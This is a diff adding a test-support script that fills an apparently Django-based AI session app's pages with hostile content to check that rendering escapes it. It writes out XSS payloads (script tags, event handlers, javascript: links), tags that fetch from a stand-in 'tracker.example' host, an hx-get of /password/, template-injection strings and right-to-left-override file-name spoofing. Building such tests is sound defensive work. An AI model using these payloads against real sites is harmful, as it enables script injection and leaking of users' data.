@@ -1,0 +1,100 @@
+"""A record in which every text that a page shows tries to run something or to fetch something.
+
+As a program it writes one for an account, and prints the ids of what it wrote as JSON: ``python -m tests.support.hostile_record ada``.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+
+TRACKER = "tracker.example"
+"""Nobody's host; whatever asks it for something has obeyed a text."""
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    f"<img src=x onerror=alert(1)><img src=https://{TRACKER}/i.png>",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    f"</title></textarea></template><iframe src=https://{TRACKER}/></iframe>",
+    f"![pixel](https://{TRACKER}/p.png?secret)",
+    "[press](javascript:alert(1)) <a href=javascript:alert(1)>here</a>",
+    f"<style>@import url(https://{TRACKER}/s.css)</style><link rel=stylesheet href=//{TRACKER}/l.css>",
+    f"<base href=https://{TRACKER}/><meta http-equiv=refresh content='0;url=https://{TRACKER}/'>",
+    "<div hx-get=/password/ hx-trigger=load>x</div><form action=//tracker.example><button>Go</button></form>",
+    '{{ 7|add:7 }} {% load static %} " onmouseover=alert(1) autofocus onfocus=alert(1) x="',
+    "hidden \u202egpj.exe\u2066 \u200b word",
+)
+HOSTILE = " ".join(PAYLOADS)
+ONE_LINE = HOSTILE[:150]
+
+
+def write(username: str) -> dict[str, str]:
+    """One of everything, for this account; returns the ids by kind."""
+    from django.contrib.auth.models import Group, User
+
+    from agents_app.store import put_listing, put_server
+    from files_app.ingest import keep_file
+    from mnesis_core.attached import ListedTool, ServerAddress, take_listing
+    from mnesis_core.llm import ModelSpec
+    from mnesis_core.messages import ReasoningPart, TextPart, ToolPart, ToolState
+    from sessions_app import store
+    from sessions_app.ledger import change
+    from sessions_app.models import MessagePart, ModelCall, Turn
+    from sessions_app.store.models import Audience, enter_model
+    from tests.support.inspected import add_summary, add_turn, claim, finish
+    from tests.support.operators import settled_run
+
+    owner = User.objects.get(username=username)
+    group = Group.objects.create(name=ONE_LINE)
+    spec = ModelSpec(alias=HOSTILE[:100], litellm_model=ONE_LINE, context_window=8_000, max_output_tokens=900)
+    enter_model(spec, api_key_env="", audience=Audience(groups=[group], users=[owner]))
+    server = put_server(ServerAddress(name="hostile", url="http://127.0.0.1:9/mcp"))
+    listed = ListedTool(name="act", description=HOSTILE, schema={"type": "object", "title": HOSTILE})
+    put_listing(server, take_listing("hostile", [listed]))
+    session = store.create_session(
+        owner=owner,
+        model="demo",
+        title=HOSTILE[:400],
+        agent=HOSTILE[:100],
+        system_prompt=HOSTILE,
+        labels={"a": HOSTILE[:90]},
+    )
+    tool = ToolPart(
+        tool_name=HOSTILE[:100], tool_call_id="c1", input=json.dumps({"x": HOSTILE}), output=HOSTILE * 3,
+        state=ToolState.COMPLETED,
+    )  # fmt: skip
+    failed = ToolPart(tool_name="ask", tool_call_id="c2", input=HOSTILE, error=HOSTILE, state=ToolState.ERROR)
+    markdown = "\n\n".join(
+        [*PAYLOADS, f"```{ONE_LINE}\n{HOSTILE}\n```", f"| {ONE_LINE.replace('|', '')} |\n|---|\n| x |"]
+    )
+    messages = [
+        *add_turn(session, HOSTILE, ReasoningPart(text=HOSTILE), TextPart(text=markdown), tool, failed),
+        *add_turn(session, markdown),
+        *add_turn(session, "And now?"),
+    ]
+    part = MessagePart.objects.filter(session_id=session, part_type="tool").order_by("part_index")[0].id
+    with change(session) as record:
+        store.tombstone_parts(record, [part])
+    run = claim(session)
+    summary = add_summary(session, run, messages[:2], (1, 2), text=HOSTILE, level=3)
+    finish(session, run)
+    file = keep_file(session, owner_id=owner.pk, path=f"{ONE_LINE}.txt", chunks=[f"{HOSTILE}\n".encode() * 30])
+    return {
+        "session_id": session,
+        "message_id": messages[0],
+        "part_id": part,
+        "summary_id": summary,
+        "file_id": file.id,
+        "run_id": settled_run(session, output=HOSTILE, template=f"{{{{ item }}}} {HOSTILE}"),
+        "turn_id": Turn.objects.filter(session_id=session).order_by("seq")[0].id,
+        "call_id": ModelCall.objects.filter(session_id=session, purpose="turn").order_by("created_at")[0].id,
+        "alias": spec.alias,
+    }
+
+
+if __name__ == "__main__":
+    import django
+
+    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "mnesis_site.settings")
+    django.setup()
+    print(json.dumps(write(sys.argv[1])))
